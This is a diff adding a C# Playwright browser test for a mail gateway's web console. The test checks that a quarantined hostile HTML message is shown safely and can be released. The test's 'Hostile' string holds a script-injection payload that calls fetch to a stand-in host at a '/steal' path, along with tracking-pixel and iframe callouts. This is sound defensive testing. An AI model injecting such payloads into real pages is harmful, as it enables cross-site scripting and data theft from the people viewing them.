@@ -1,0 +1,82 @@
+using Microsoft.Playwright;
+
+namespace Gateway.IntegrationTests.Web;
+
+/// <summary>
+/// The web console in a real browser (Debian's Chromium driven by Playwright): an administrator signs in, finds a
+/// held hostile HTML message, opens it — its script does not run and it makes no request anywhere — releases it,
+/// and the downstream gets it.
+/// </summary>
+public sealed class WebConsoleBrowserTests
+{
+    private const string Chromium = "/usr/bin/chromium";
+
+    [Fact(Timeout = 120_000)]
+    public async Task An_administrator_signs_in_opens_a_hostile_held_message_safely_and_releases_it()
+    {
+        Assert.True(File.Exists(Chromium), $"{Chromium} is missing (apt-get install chromium; tests/run installs it)");
+        await using var console = await WebConsoleFixture.StartAsync();
+        const string Hostile = "<html><body><p>Your invoice</p><script>document.title='pwned';alert('pwned');fetch('http://203.0.113.9/steal')</script><img src=\"http://203.0.113.9/pixel.png\"><iframe src=\"http://203.0.113.9/frame\"></iframe></body></html>";
+        var held = await console.SendAsync("hold me: your invoice", Hostile, "text/html");
+        Assert.Contains("held for review", held, StringComparison.Ordinal);
+
+        using var playwright = await Playwright.CreateAsync();
+        await using var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions
+        {
+            ExecutablePath = Chromium,
+            Headless = true,
+            Args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic"],
+        });
+        var page = await browser.NewPageAsync();
+        var elsewhere = new List<string>();
+        var dialogs = 0;
+        page.Request += (_, request) =>
+        {
+            if (new Uri(request.Url).Host != "127.0.0.1")
+            {
+                elsewhere.Add(request.Url);
+            }
+        };
+        page.Dialog += (_, dialog) =>
+        {
+            dialogs++;
+            _ = dialog.DismissAsync();
+        };
+
+        await page.GotoAsync(new Uri(console.Url, "quarantine").ToString());
+        Assert.EndsWith("/login?return=%2Fquarantine", page.Url, StringComparison.Ordinal); // not signed in: sent to sign in
+        await ShotAsync(page, "login");
+        await page.FillAsync("input[name=user]", WebConsoleFixture.Admin);
+        await page.FillAsync("input[name=password]", WebConsoleFixture.Password);
+        await page.ClickAsync("button:has-text('Sign in')");
+        Assert.EndsWith("/quarantine", page.Url, StringComparison.Ordinal);
+        await ShotAsync(page, "quarantine");
+
+        await page.ClickAsync("a:has-text('hold me: your invoice')");
+        Assert.Contains("Your invoice", await page.InnerTextAsync("pre"), StringComparison.Ordinal);
+        Assert.Contains("HOLD_FOR_REVIEW", await page.ContentAsync(), StringComparison.Ordinal);
+        Assert.NotEqual("pwned", await page.TitleAsync());
+        await ShotAsync(page, "message");
+
+        await page.ClickAsync("button:has-text('Release')");
+        Assert.Contains("released to user@example.test", await page.InnerTextAsync("main"), StringComparison.Ordinal);
+        var delivered = Assert.Single(console.Downstream.Messages);
+        Assert.Contains("hold me: your invoice", System.Text.Encoding.UTF8.GetString(delivered.Raw), StringComparison.Ordinal);
+
+        await page.GotoAsync(new Uri(console.Url, "history?message_id=m1%40remote.test").ToString());
+        Assert.Contains("quarantine", await page.InnerTextAsync("table"), StringComparison.Ordinal);
+        await ShotAsync(page, "history");
+
+        Assert.Equal(0, dialogs);
+        Assert.Empty(elsewhere);
+    }
+
+    /// <summary>GATEWAY_SCREENSHOTS=DIR saves the pages (docs/console-*.png come from this test).</summary>
+    private static async Task ShotAsync(IPage page, string name)
+    {
+        if (Environment.GetEnvironmentVariable("GATEWAY_SCREENSHOTS") is { Length: > 0 } folder)
+        {
+            await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(folder, $"console-{name}.png"), FullPage = true });
+        }
+    }
+}
